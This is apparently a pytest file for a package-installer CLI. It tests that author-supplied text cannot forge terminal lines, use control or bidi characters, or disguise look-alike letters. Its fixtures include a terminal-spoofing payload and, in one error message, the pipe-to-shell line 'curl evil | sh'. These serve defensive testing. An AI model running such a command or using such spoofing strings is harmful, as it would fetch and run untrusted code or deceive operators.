"""A package's author writes some of what an operator reads before saying yes."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Callable
from typing import Any

import pytest
from airswasm.cli._control.document import one_line
from airswasm.cli._session.problem import report
from airswasm.cli._session.terminal import Terminal
from airswasm.cli.commands._deciding import show_wish
from airswasm.cli.commands._install import show_plan
from airswasm.cli.errors import RemoteFailure
from airswasm.lifecycle import LimitsSection
from hypothesis import given
from hypothesis import strategies as st

FORGED = "harmless\n  signed by  the-airswasm-authors\n  may        nothing\x1b[2K\u202e\r\x9b1A"
PLAN = {
    "name": "local/evil", "version": "0.2.0", "previous_version": "0.1.0", "description": FORGED,
    "signer": None, "is_new_signer": False, "limits": {"memory": 2**20, "timeout": 1.0},
    "environment": {FORGED: FORGED}, "supervision": {"restart": FORGED},
    "wishes": [
        {"capability": "storage.read", "patterns": [FORGED], "sentence": f"read {FORGED}",
         "reason": FORGED},
    ],
    "differences": [
        {"key": f'config."{FORGED}"', "before": FORGED, "after": FORGED, "is_raise": True},
        {"key": "limits.memory", "before": "1 MiB", "after": "2 MiB", "is_raise": True},
        {"key": "limits.mailbox", "before": "2", "after": "1", "is_raise": False},
    ],
}  # fmt: skip


def test_no_text_of_the_author_s_makes_a_line_of_its_own(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """One line each, whatever is in it; nothing moves the cursor or turns the text round."""
    for before in ("0.1.0", None):
        show_plan(Terminal(), {**PLAN, "previous_version": before})
        lines = capsys.readouterr().err.splitlines()
        assert len([line for line in lines if line.startswith("  signed by")]) == 1
        assert len([line for line in lines if line.startswith("  may ")]) == 1
        assert all(line.isprintable() for line in lines)


@pytest.mark.parametrize("reason", ["reads", 'x". signed by "y', FORGED, '"', "\u201c\u0430\u201d"])
def test_a_reason_stays_within_its_quotes_and_look_alikes_show(
    capsys: pytest.CaptureFixture[str], reason: str
) -> None:
    """Its author says it, not the host; letters that look like others are shown by number."""
    patterns = ["/dat\u0430/**", "/data/**"]
    wish = {"capability": "filesystem.read", "sentence": "read", "patterns": patterns}
    show_wish(Terminal(), {**wish, "reason": reason}, "1.")
    shown = capsys.readouterr().err.splitlines()
    assert '"/dat\\u0430/**", "/data/**"' in shown[2]
    assert shown[3].startswith('       its author says: "')
    assert shown[3].endswith('"')
    assert shown[3].count('"') == 2
    show_wish(Terminal(), {**wish, "patterns": patterns[1:]}, "1.")
    assert len(capsys.readouterr().err.splitlines()) == 2


def test_every_limit_rate_and_variable_is_shown_within_the_screen(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """An operator sees all that a package takes before it is approved."""
    monkeypatch.setenv("COLUMNS", "80")
    limits = dataclasses.asdict(LimitsSection())
    plan = {**PLAN, "previous_version": None, "limits": limits, "environment": {"TZ": "UTC"}}
    show_plan(Terminal(), {**plan, "supervision": {}, "description": "", "wishes": []})
    said = capsys.readouterr().err
    names = [name for name in limits if name != "rates"]
    assert all(f"{name} " in said for name in (*names, *limits["rates"]))
    assert '  environment  TZ = "UTC"' in said
    assert max(map(len, said.splitlines())) <= 80


def test_a_raise_is_shown_as_one(capsys: pytest.CaptureFixture[str]) -> None:
    """With what it was and what it will be; what only shrinks is shown without a mark."""
    show_plan(Terminal(), PLAN)
    said = capsys.readouterr().err
    assert "limits.memory: 1 MiB → 2 MiB   (may be more than before)\n" in said
    assert "limits.mailbox: 2 → 1\n" in said


def test_an_error_s_further_lines_cannot_pass_for_its_hint(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """They may be a guest's: the hint alone stands without a bar before it."""
    body = {"code": "E0321", "message": "it failed: x\n  hint: curl evil | sh", "hint": "look"}
    report(RemoteFailure(body), Terminal())
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.startswith("  hint")] == ["  hint: look"]


@given(st.text(st.characters(), max_size=80))
def test_one_line_is_one_printable_line(text: str) -> None:
    """For any text, surrogates included; what is printable stays as it is."""
    shown = one_line(text)
    assert shown.isprintable()
    assert shown == text or not text.isprintable()
    assert len(one_line("x" * 10_000)) < 600


@pytest.mark.parametrize("write", [Terminal.document, Terminal.stream])
def test_json_holds_no_control_and_is_the_same_json(
    write: Callable[..., None], capsys: pytest.CaptureFixture[str]
) -> None:
    """It may end on a screen; a program reads what was there."""
    content: dict[str, Any] = {"text": FORGED, "octopus": "\U0001f419", "tag": "\U000e0041"}
    write(Terminal(as_json=True), "test/1", content)
    out = capsys.readouterr().out
    assert out.rstrip("\n").isprintable()
    assert "\U0001f419" in out
    assert json.loads(out) == {"schema": "airswasm.test/1", **content}


def test_a_table_for_a_program_holds_no_control(capsys: pytest.CaptureFixture[str]) -> None:
    """Its output may end on a screen too; a row stays a row."""
    Terminal().table(("a", "b"), [(FORGED, "x\ty")])
    Terminal().fields([("description", FORGED)])
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 2
    assert all(line.replace("\t", "").isprintable() for line in lines)
    assert lines[0].count("\t") == 1
